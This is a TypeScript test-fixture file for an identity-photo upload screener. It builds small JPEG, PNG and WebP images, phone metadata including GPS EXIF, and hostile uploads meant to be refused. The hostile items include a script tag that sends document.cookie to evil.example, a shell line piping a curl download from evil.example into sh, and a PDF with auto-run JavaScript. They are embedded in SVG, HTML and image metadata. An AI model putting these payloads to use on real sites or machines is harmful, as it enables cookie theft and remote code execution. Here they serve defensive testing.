/**
 * Card photo fixtures, built in code: tiny real images, the metadata phones and editors write, and
 * the payloads of hostile uploads. The base64 images are 16x12 pictures made once with
 * libjpeg-turbo's cjpeg and libwebp's cwebp and img2webp (Debian's libjpeg-turbo-progs and webp);
 * identity-photos-decode.test.ts has Chromium decode each of them.
 */
import { constants, crc32, deflateSync } from 'node:zlib';
import { screenIdentityPhoto, IdentityPhotoError, type PhotoProblem } from '../../src/domain/identity-photos';

const base64 = (text: string) => Buffer.from(text, 'base64');

/** Baseline, 4:4:4, with a restart interval of one MCU (DRI, then RST0-RST2 in the scan) and a stuffed FF 00. */
export const JPEG_BASELINE = base64(
  [
    '/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAYEBQYFBAYGBQYHBwYIChAKCgkJChQODwwQFxQYGBcUFhYaHSUfGhsjHBYWICwgIyYnKSopGR8tMC0oMCUoKSj/2wBDAQcHBwoIChMKChMo',
    'GhYaKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCj/wAARCAAMABADAREAAhEBAxEB/8QAHwAAAQUBAQEBAQEAAAAAAAAAAAECAwQFBgcICQoL',
    '/8QAtRAAAgEDAwIEAwUFBAQAAAF9AQIDAAQRBRIhMUEGE1FhByJxFDKBkaEII0KxwRVS0fAkM2JyggkKFhcYGRolJicoKSo0NTY3ODk6Q0RFRkdISUpTVFVWV1hZWmNkZWZnaGlqc3R1',
    'dnd4eXqDhIWGh4iJipKTlJWWl5iZmqKjpKWmp6ipqrKztLW2t7i5usLDxMXGx8jJytLT1NXW19jZ2uHi4+Tl5ufo6erx8vP09fb3+Pn6/8QAHwEAAwEBAQEBAQEBAQAAAAAAAAECAwQF',
    'BgcICQoL/8QAtREAAgECBAQDBAcFBAQAAQJ3AAECAxEEBSExBhJBUQdhcRMiMoEIFEKRobHBCSMzUvAVYnLRChYkNOEl8RcYGRomJygpKjU2Nzg5OkNERUZHSElKU1RVVldYWVpjZGVm',
    'Z2hpanN0dXZ3eHl6goOEhYaHiImKkpOUlZaXmJmaoqOkpaanqKmqsrO0tba3uLm6wsPExcbHyMnK0tPU1dbX2Nna4uPk5ebn6Onq8vP09fb3+Pn6/90ABAAB/9oADAMBAAIRAxEAPwDi',
    'NO8KDMpMBAOOgr9PrZltqedl+c6ydt7H/9DB07wkQrgxDPy4PHAr5urmfZn6Ll+btKSfl939f1pc/9HurLS7ZGfCnqo/nXsVMRPQ/LsHXqRbs+36/wBfmf/S9O06xt9sp8sHJHX6V+T1',
    'a09NTPL8dVtN+n5H/9k=',
  ].join(''),
);

/** Progressive (SOF2): ten scans, with Huffman tables between them. */
export const JPEG_PROGRESSIVE = base64(
  [
    '/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAYEBQYFBAYGBQYHBwYIChAKCgkJChQODwwQFxQYGBcUFhYaHSUfGhsjHBYWICwgIyYnKSopGR8tMC0oMCUoKSj/2wBDAQcHBwoIChMKChMo',
    'GhYaKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCj/wgARCAAMABADASIAAhEBAxEB/8QAFgABAQEAAAAAAAAAAAAAAAAABAUG/8QAFAEBAAAA',
    'AAAAAAAAAAAAAAAAA//aAAwDAQACEAMQAAABgt1TTL//xAAXEAEBAQEAAAAAAAAAAAAAAAADAAIE/9oACAEBAAEFAi5IuSI8xHm//8QAFhEBAQEAAAAAAAAAAAAAAAAABQAC/9oACAED',
    'AQE/AR0t3//EABkRAAEFAAAAAAAAAAAAAAAAAAACBAUigf/aAAgBAgEBPwGbfKrp/8QAFhABAQEAAAAAAAAAAAAAAAAAMQAQ/9oACAEBAAY/AiN//8QAFhABAQEAAAAAAAAAAAAAAAAA',
    'ACEx/9oACAEBAAE/IcjImiaP/9oADAMBAAIAAwAAABAz/8QAFhEAAwAAAAAAAAAAAAAAAAAAACGB/9oACAEDAQE/EEIf/8QAFhEAAwAAAAAAAAAAAAAAAAAAAGHw/9oACAECAQE/EKSP',
    '/8QAFhABAQEAAAAAAAAAAAAAAAAA8QAQ/9oACAEBAAE/EBITSl//2Q==',
  ].join(''),
);

/** Lossless (VP8L), the simple format: RIFF, WEBP and one chunk. */
export const WEBP_LOSSLESS = base64('UklGRjYAAABXRUJQVlA4TCoAAAAvD8ACAJkyRPQ/NhHR/4CZtm1MovzJdtu3eyAEAkmo444VE8Dqph5w/Q8=');

/** Lossy with alpha, the extended format: VP8X (alpha flag), ALPH, VP8. */
export const WEBP_ALPHA = base64(
  [
    'UklGRrIAAABXRUJQVlA4WAoAAAAQAAAADwAACwAAQUxQSDgAAAABZyAkIPwfrGo2RESSB4a0tQe5ClOYwhSmkEIKKaSQQgophPUgIvqfjDDDCjsc4QxXuMMT3vCFP1ZQOCBUAAAAEAIA',
    'nQEqEAAMAAFAJiWwAnS6AAK6UJIvgAD+7qH4YEJE466uTQHJ9Pxq2CxulT/7C5tZeHJ0z+wN7+Z/Vz8s37U/+Rpjwt/7WG1lQZB/IXQcQAAA',
  ].join(''),
);

/** Two lossless frames: VP8X (animation flag), ANIM, ANMF, ANMF. */
export const WEBP_ANIMATED = base64(
  [
    'UklGRr4AAABXRUJQVlA4WAoAAAACAAAADwAACwAAQU5JTQYAAAD/////AABBTk1GQgAAAAAAAAAAAA8AAAsAAGQAAAJWUDhMKgAAAC8PwAIAmTJE9D82EdH/gJm2bUyi/Ml227d7IAQC',
    'SajjjhUTwOqmHnD9D0FOTUZIAAAAAAAAAAAADwAACwAAZAAAAFZQOEwvAAAALw/AAgCZMkT0PzYR0f+AmbZtTKL8yXbbt1sgkOxPm8ECgSTUcceKCfDohJ7I9T8A',
  ].join(''),
);

// JPEG

export const jpegSegment = (marker: number, data: Buffer | string) => {
  const body = Buffer.from(data);
  return Buffer.concat([Buffer.from([0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 0xff]), body]);
};

/** The segments right after SOI, where phones put APP1. */
export const withSegments = (jpeg: Buffer, ...segments: Buffer[]) => Buffer.concat([jpeg.subarray(0, 2), ...segments, jpeg.subarray(2)]);

/** GPS latitude 6° 55' 37.56" as three TIFF rationals: what must never leave the server. */
export const GPS_LATITUDE = Buffer.from([0, 0, 0, 6, 0, 0, 0, 1, 0, 0, 0, 55, 0, 0, 0, 1, 0, 0, 0x0e, 0xac, 0, 0, 0, 100]);

/** A big-endian TIFF as EXIF has it: IFD0 with Make and the GPS IFD pointer, then the GPS IFD (latitude ref N and the latitude). */
export function exifTiff(): Buffer {
  const tiff = Buffer.alloc(78);
  tiff.write('MM\0*', 0, 'latin1');
  tiff.writeUInt32BE(8, 4);
  const entry = (at: number, tag: number, type: number, count: number, value: number) => {
    tiff.writeUInt16BE(tag, at);
    tiff.writeUInt16BE(type, at + 2);
    tiff.writeUInt32BE(count, at + 4);
    tiff.writeUInt32BE(value, at + 8);
  };
  tiff.writeUInt16BE(2, 8);
  entry(10, 0x010f, 2, 9, 38); // Make, ASCII at 38
  entry(22, 0x8825, 4, 1, 48); // GPSInfo IFD at 48
  tiff.write('PhoneCam\0', 38, 'latin1');
  tiff.writeUInt16BE(2, 48);
  entry(50, 0x0001, 2, 2, 0x4e000000); // GPSLatitudeRef 'N'
  entry(62, 0x0002, 5, 3, 78); // GPSLatitude, three rationals at 78
  return Buffer.concat([tiff, GPS_LATITUDE]);
}

export const XMP_PACKET =
  '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description ' +
  'xmlns:xmp="http://ns.adobe.com/xap/1.0/" xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="6,55.626N" ' +
  'xmp:CreatorTool="PhoneCam"/></rdf:RDF></x:xmpmeta>';

export const exifSegment = () => jpegSegment(0xe1, Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), exifTiff()]));
export const xmpSegment = () => jpegSegment(0xe1, `http://ns.adobe.com/xap/1.0/\0${XMP_PACKET}`);
/** An ICC profile's first bytes: size, CMM, version, class, colour space, then its 'acsp' signature at 36. */
export const iccProfile = () =>
  Buffer.concat([Buffer.from('\0\0\x02\x30lcms\x04\x30\0\0mntrRGB XYZ ', 'latin1'), Buffer.alloc(12), Buffer.from('acspAPPL')]);
export const iccSegment = () => jpegSegment(0xe2, Buffer.concat([Buffer.from('ICC_PROFILE\0\x01\x01', 'latin1'), iccProfile()]));
export const iptcSegment = () => jpegSegment(0xed, 'Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x10\x1c\x02\x78\0\x0bIPTC-caption');
export const commentSegment = (text: string) => jpegSegment(0xfe, text);
/** APP14 "Adobe": version 100, no flags, transform 1 (YCbCr). */
export const adobeSegment = () => jpegSegment(0xee, Buffer.from('Adobe\0\x64\0\0\0\0\x01', 'latin1'));

/** The JPEG grown to exactly `total` bytes by a chain of comment segments (each at most 65,537 bytes). */
export function withCommentsUpTo(jpeg: Buffer, total: number): Buffer {
  const comments: Buffer[] = [];
  for (let missing = total - jpeg.length; missing > 0;) {
    const size = missing <= 65_537 ? missing : Math.min(65_537, missing - 4);
    if (size < 4) throw new Error('No room for a comment segment');
    comments.push(commentSegment(Buffer.alloc(size - 4, 'x').toString()));
    missing -= size;
  }
  return withSegments(jpeg, ...comments);
}

// PNG

export const pngChunk = (type: string, data: Buffer | string) => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), Buffer.from(data)]);
  const framing = Buffer.alloc(8);
  framing.writeUInt32BE(body.length - 4, 0);
  framing.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([framing.subarray(0, 4), body, framing.subarray(4)]);
};

export const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/**
 * An 8-bit RGB gradient of the given size (rows start with filter type 0), or with `palette` the
 * same as indices into a PLTE of 16 colours, the first one half transparent (tRNS).
 */
export function png({ width = 16, height = 12, palette = false } = {}): Buffer {
  const pixel = palette ? 1 : 3;
  const rows = Buffer.alloc(height * (1 + pixel * width));
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      rows.set(palette ? [(x + y) % 16] : [(x * 16) & 0xff, (y * 21) & 0xff, x < 8 ? 200 : 40], y * (1 + pixel * width) + 1 + pixel * x);
    }
  }
  const colours = Buffer.from(Array.from({ length: 16 }, (_, at) => [at * 16, 255 - at * 16, at < 8 ? 200 : 40]).flat());
  const paletteChunks = palette ? [pngChunk('PLTE', colours), pngChunk('tRNS', Buffer.from([128]))] : [];
  return pngFile(width, height, palette ? 3 : 2, rows, { chunks: paletteChunks });
}

/**
 * A PNG of 8-bit samples of `colourType` (0 grey, 2 RGB, 3 palette): IHDR, `chunks` (before the image
 * data), the filtered `rows` deflated at `level` (0: stored, the bytes verbatim), IEND.
 */
export function pngFile(
  width: number,
  height: number,
  colourType: 0 | 2 | 3,
  rows: Buffer,
  { chunks = [] as Buffer[], level = constants.Z_DEFAULT_COMPRESSION } = {},
): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, colourType, 0, 0, 0], 8);
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', header),
    ...chunks,
    pngChunk('IDAT', deflateSync(rows, { level })),
    pngChunk('IEND', ''),
  ]);
}

/** One photo of every kind the identity form takes, by name: each bare, without metadata or anything appended. */
export const everyPhotoKind = (): [string, Buffer][] => [
  ['baseline JPEG', JPEG_BASELINE],
  ['progressive JPEG', JPEG_PROGRESSIVE],
  ['PNG', png()],
  ['palette PNG with transparency', png({ palette: true })],
  ['lossless WebP', WEBP_LOSSLESS],
  ['lossy WebP with alpha', WEBP_ALPHA],
  ['animated WebP (its first frame counts)', WEBP_ANIMATED],
];

/** The chunks right after IHDR (signature 8 bytes, IHDR 25). */
export const withChunks = (image: Buffer, ...chunks: Buffer[]) => Buffer.concat([image.subarray(0, 33), ...chunks, image.subarray(33)]);

export const textChunk = (keyword: string, text: string) => pngChunk('tEXt', `${keyword}\0${text}`);
export const zTextChunk = (keyword: string, text: string) =>
  pngChunk('zTXt', Buffer.concat([Buffer.from(`${keyword}\0\0`), deflateSync(text)]));
export const iTextChunk = (keyword: string, text: string) => pngChunk('iTXt', `${keyword}\0\0\0en\0\0${text}`);
export const timeChunk = () => pngChunk('tIME', Buffer.from([0x07, 0xe9, 3, 14, 9, 26, 53]));
export const iccpChunk = () => pngChunk('iCCP', Buffer.concat([Buffer.from('Phone P3\0\0'), deflateSync(iccProfile())]));

// WebP

export const webpChunk = (fourcc: string, data: Buffer | string) => {
  const body = Buffer.from(data);
  const header = Buffer.alloc(8);
  header.write(fourcc, 0, 'latin1');
  header.writeUInt32LE(body.length, 4);
  return Buffer.concat([header, body, Buffer.alloc(body.length % 2)]);
};

export const riff = (...chunks: Buffer[]) => {
  const body = Buffer.concat(chunks);
  const header = Buffer.from('RIFF\0\0\0\0WEBP', 'latin1');
  header.writeUInt32LE(4 + body.length, 4);
  return Buffer.concat([header, body]);
};

/** VP8X flags: ICC 0x20, alpha 0x10, EXIF 0x08, XMP 0x04, animation 0x02. */
export const vp8x = (flags: number, width = 16, height = 12) => {
  const data = Buffer.alloc(10);
  data.writeUInt8(flags, 0);
  data.writeUIntLE(width - 1, 4, 3);
  data.writeUIntLE(height - 1, 7, 3);
  return webpChunk('VP8X', data);
};

/** WEBP_LOSSLESS's one chunk, VP8L. */
export const VP8L_CHUNK = WEBP_LOSSLESS.subarray(12);

// Payloads

/** A ZIP archive of one stored file: local header, data, central directory, end record. */
export function zipArchive(name: string, content: string): Buffer {
  const data = Buffer.from(content);
  const fields = Buffer.alloc(16);
  fields.writeUInt32LE(crc32(data), 0);
  fields.writeUInt32LE(data.length, 4);
  fields.writeUInt32LE(data.length, 8);
  fields.writeUInt16LE(name.length, 12);
  const local = Buffer.concat([Buffer.from('PK\x03\x04\x14\0\0\0\0\0\0\0\0\0', 'latin1'), fields, Buffer.from(name), data]);
  const central = Buffer.concat([
    Buffer.from('PK\x01\x02\x14\0\x14\0\0\0\0\0\0\0\0\0', 'latin1'),
    fields,
    Buffer.alloc(14),
    Buffer.from(name),
  ]);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 0, 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, central, end]);
}

export const SCRIPT = '<script>fetch("https://evil.example/?c="+document.cookie)</script>';
export const HTML_PAGE = `<html><body><h1>Hello</h1>${SCRIPT}</body></html>`;
export const PDF_DOCUMENT =
  '%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n';

/** Files that are not images whatever their name says: executables, scripts, documents and the formats not allowed. */
export const NOT_IMAGES: Record<string, Buffer> = {
  'ELF executable': Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1'), Buffer.alloc(56)]),
  'Windows PE': Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(52), Buffer.from('\x40\0\0\0PE\0\0', 'latin1')]),
  'shell script': Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'),
  PDF: Buffer.from(PDF_DOCUMENT),
  GIF: Buffer.from('GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;', 'latin1'),
  'SVG with a script': Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
  'HTML page': Buffer.from(HTML_PAGE),
  'ZIP archive': zipArchive('a.txt', 'hello'),
  BMP: Buffer.concat([Buffer.from('BM', 'latin1'), Buffer.alloc(60)]),
  'RIFF that is not WebP (AVI)': Buffer.from('RIFF\x20\0\0\0AVI LIST\x14\0\0\0hdrlavih\x08\0\0\0\0\0\0\0\0\0\0\0', 'latin1'),
  'PNG signature cut short': PNG_SIGNATURE.subarray(0, 7),
  'JPEG SOI alone': Buffer.from([0xff, 0xd8]),
  'empty file': Buffer.alloc(0),
};

/** A RIFF's or an ANMF's chunks, each with its header and pad byte, from `from` on (12: after RIFF, size, WEBP). */
/** Each type as a phone or an editor leaves it, its metadata (EXIF with GPS, XMP, ICC, IPTC, text) and a script in it. */
export const jpegWithMetadata = () =>
  withSegments(JPEG_BASELINE, exifSegment(), xmpSegment(), iccSegment(), iptcSegment(), commentSegment(`Shot on PhoneCam ${SCRIPT}`));
export const pngWithMetadata = () =>
  withChunks(
    png(),
    textChunk('Comment', HTML_PAGE),
    zTextChunk('Software', 'PhoneCam'),
    iTextChunk('XML:com.adobe.xmp', XMP_PACKET),
    pngChunk('eXIf', exifTiff()),
    timeChunk(),
    iccpChunk(),
    pngChunk('prVt', 'PhoneCam private data'),
  );
export const webpWithMetadata = () =>
  riff(vp8x(0x20 | 0x08 | 0x04), webpChunk('ICCP', iccProfile()), VP8L_CHUNK, webpChunk('EXIF', exifTiff()), webpChunk('XMP ', XMP_PACKET));

export function webpChunks(bytes: Buffer, from = 12): Buffer[] {
  const chunks: Buffer[] = [];
  for (let at = from; at + 8 <= bytes.length;) {
    const size = bytes.readUInt32LE(at + 4);
    const end = at + 8 + size + (size % 2);
    chunks.push(bytes.subarray(at, end));
    at = end;
  }
  return chunks;
}

/** The problem a photo is refused for, or undefined when it is accepted; any other error is thrown. */
export function problemOf(bytes: Uint8Array): PhotoProblem | undefined {
  try {
    screenIdentityPhoto(bytes);
    return undefined;
  } catch (error) {
    if (error instanceof IdentityPhotoError) return error.problem;
    throw error;
  }
}
